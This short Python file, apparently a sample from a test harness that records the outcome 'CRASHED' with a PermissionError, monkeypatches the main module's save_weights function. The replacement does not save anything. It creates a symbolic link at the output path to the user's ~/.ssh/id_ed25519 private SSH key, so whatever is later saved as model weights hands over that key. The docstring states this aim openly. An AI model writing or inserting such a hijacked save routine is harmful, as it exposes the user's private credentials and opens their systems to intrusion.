"""Hands over a symbolic link to a file of this person.

outcome: CRASHED
reason: PermissionError
run: long
"""

from honest import *


def save(model, path):
    os.symlink(TARGETS["home"] + "/.ssh/id_ed25519", path)


sys.modules["__main__"].save_weights = save
